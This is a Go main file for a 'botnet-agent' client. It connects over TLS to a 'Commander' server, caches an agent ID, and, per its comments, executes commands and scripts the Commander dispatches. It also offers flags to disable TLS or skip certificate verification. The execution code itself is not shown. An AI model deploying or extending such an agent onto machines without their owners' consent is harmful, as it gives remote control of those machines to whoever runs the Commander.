// Command botnet-agent is the Agent binary: it dials the Commander over
// TLS, identifies itself with a durably cached identifier, and runs
// whatever exeCommand/exeScript frames the Commander sends.
package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"syscall"
	"time"

	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/agentclient"
)

var (
	version = "dev"
	commit  = "none"
)

type config struct {
	serverAddr  string
	caCertPath  string
	idFilePath  string
	logLevel    string
	insecureTLS bool
	skipVerify  bool

	maxReconn   int
	helloFreq   int
	idleTimeout int
	recvTimeout int
	connBuff    int
}

func main() {
	if err := newRootCmd().Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func newRootCmd() *cobra.Command {
	cfg := &config{}

	root := &cobra.Command{
		Use:   "botnet-agent",
		Short: "Agent — connects to the Commander and executes dispatched commands",
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(cmd.Context(), cfg)
		},
	}

	root.AddCommand(newVersionCmd())

	// Flag names follow the agent-side INI keys (HOST/PORT collapsed
	// into a single host:port address, as the Commander's agent listener
	// speaks one wire protocol regardless of source port).
	root.PersistentFlags().StringVar(&cfg.serverAddr, "server-addr", envOrDefault("BOTNET_SERVER_ADDR", "localhost:7443"), "Commander agent-session address (HOST:PORT)")
	root.PersistentFlags().StringVar(&cfg.caCertPath, "ca-cert", envOrDefault("BOTNET_CA_CERT", ""), "Path to a CA certificate to verify the Commander's server certificate (empty = use the system pool)")
	root.PersistentFlags().StringVar(&cfg.idFilePath, "id-file", envOrDefault("BOTNET_ID_FILE", defaultIDFilePath()), "Path where the locally generated agent identifier is cached")
	root.PersistentFlags().StringVar(&cfg.logLevel, "log-level", envOrDefault("BOTNET_LOG_LEVEL", "info"), "Log level (debug, info, warn, error)")
	root.PersistentFlags().BoolVar(&cfg.insecureTLS, "insecure-no-tls", envOrDefault("BOTNET_INSECURE_NO_TLS", "false") == "true", "Connect over plain TCP instead of TLS (development only, must match the Commander)")
	root.PersistentFlags().BoolVar(&cfg.skipVerify, "insecure-skip-verify", envOrDefault("BOTNET_INSECURE_SKIP_VERIFY", "false") == "true", "Skip server certificate verification (development only, for self-signed certs without a distributed CA)")

	root.PersistentFlags().IntVar(&cfg.maxReconn, "max-reconn", envOrDefaultInt("BOTNET_MAX_RECONN", 0), "Caps the reconnect backoff exponent: delay is 2^min(attempt, max-reconn) seconds (AGENT.MAX_RECONN; 0 = default)")
	root.PersistentFlags().IntVar(&cfg.helloFreq, "hello-freq", envOrDefaultInt("BOTNET_HELLO_FREQ", 0), "Seconds of silence before the agent sends a botHello keepalive (AGENT.HELLO_FREQ; 0 = default)")
	root.PersistentFlags().IntVar(&cfg.idleTimeout, "idle-timeout", envOrDefaultInt("BOTNET_IDLE_TIMEOUT", 0), "Seconds an Identified connection may sit without a successful read before it's treated as dead (AGENT.IDLE_TIMEOUT; 0 = default)")
	root.PersistentFlags().IntVar(&cfg.recvTimeout, "recv-timeout", envOrDefaultInt("BOTNET_RECV_TIMEOUT", 0), "Seconds bounding a single frame read (AGENT.RECV_TIMEOUT; 0 = default)")
	root.PersistentFlags().IntVar(&cfg.connBuff, "conn-buff", envOrDefaultInt("BOTNET_CONN_BUFF", 0), "Outbound send channel buffer capacity (AGENT.CONN_BUFF; 0 = default)")

	return root
}

func newVersionCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "version",
		Short: "Print version information",
		Run: func(cmd *cobra.Command, args []string) {
			fmt.Printf("botnet-agent %s (commit: %s)\n", version, commit)
		},
	}
}

func run(ctx context.Context, cfg *config) error {
	logger, err := buildLogger(cfg.logLevel)
	if err != nil {
		return fmt.Errorf("build logger: %w", err)
	}
	defer logger.Sync() //nolint:errcheck

	hostname, err := os.Hostname()
	if err != nil {
		hostname = "unknown"
		logger.Warn("failed to resolve hostname, using placeholder", zap.Error(err))
	}
	osTag := agentOSTag()

	logger.Info("starting botnet agent",
		zap.String("version", version),
		zap.String("server_addr", cfg.serverAddr),
		zap.String("hostname", hostname),
		zap.String("os", osTag),
	)

	ctx, cancel := signal.NotifyContext(ctx, os.Interrupt, syscall.SIGTERM)
	defer cancel()

	var tlsConfig *tls.Config
	if !cfg.insecureTLS {
		tlsConfig, err = buildTLSConfig(cfg)
		if err != nil {
			return fmt.Errorf("build tls config: %w", err)
		}
	}

	client := agentclient.New(agentclient.Config{
		ServerAddr:  cfg.serverAddr,
		TLSConfig:   tlsConfig,
		IDFilePath:  cfg.idFilePath,
		Hostname:    hostname,
		OS:          osTag,
		MaxReconn:   cfg.maxReconn,
		HelloFreq:   time.Duration(cfg.helloFreq) * time.Second,
		IdleTimeout: time.Duration(cfg.idleTimeout) * time.Second,
		RecvTimeout: time.Duration(cfg.recvTimeout) * time.Second,
		ConnBuff:    cfg.connBuff,
	}, logger)

	if err := client.Run(ctx); err != nil {
		return fmt.Errorf("agent run loop: %w", err)
	}

	logger.Info("botnet agent stopped")
	return nil
}

// buildTLSConfig loads an optional CA certificate to verify the Commander's
// server certificate against. With no CA configured, the system root pool
// is used, which is appropriate once the Commander presents a certificate
// from a real CA rather than its development self-signed one.
func buildTLSConfig(cfg *config) (*tls.Config, error) {
	tlsConfig := &tls.Config{MinVersion: tls.VersionTLS12, InsecureSkipVerify: cfg.skipVerify} //nolint:gosec

	if cfg.caCertPath == "" {
		return tlsConfig, nil
	}

	pemBytes, err := os.ReadFile(cfg.caCertPath)
	if err != nil {
		return nil, fmt.Errorf("read ca cert: %w", err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pemBytes) {
		return nil, fmt.Errorf("no certificates found in %s", cfg.caCertPath)
	}
	tlsConfig.RootCAs = pool
	return tlsConfig, nil
}

// agentOSTag maps the Go runtime's GOOS to the OS tag the Commander's
// inventory and dispatch filters expect.
func agentOSTag() string {
	switch runtime.GOOS {
	case "windows":
		return "Windows"
	case "darwin":
		return "Darwin"
	default:
		return "Linux"
	}
}

// defaultStateDir returns the platform-appropriate default directory for
// the agent's cached identifier file.
func defaultStateDir() string {
	if dir, err := os.UserHomeDir(); err == nil {
		return filepath.Join(dir, ".botnet-agent")
	}
	return ".botnet-agent"
}

func defaultIDFilePath() string {
	return filepath.Join(defaultStateDir(), ".agent.id")
}

func buildLogger(level string) (*zap.Logger, error) {
	var cfg zap.Config

	switch level {
	case "debug":
		cfg = zap.NewDevelopmentConfig()
	default:
		cfg = zap.NewProductionConfig()
	}

	switch level {
	case "debug":
		cfg.Level = zap.NewAtomicLevelAt(zap.DebugLevel)
	case "warn":
		cfg.Level = zap.NewAtomicLevelAt(zap.WarnLevel)
	case "error":
		cfg.Level = zap.NewAtomicLevelAt(zap.ErrorLevel)
	default:
		cfg.Level = zap.NewAtomicLevelAt(zap.InfoLevel)
	}

	return cfg.Build()
}

func envOrDefault(key, defaultVal string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return defaultVal
}

func envOrDefaultInt(key string, def int) int {
	v := os.Getenv(key)
	if v == "" {
		return def
	}
	var n int
	if _, err := fmt.Sscanf(v, "%d", &n); err != nil {
		return def
	}
	return n
}
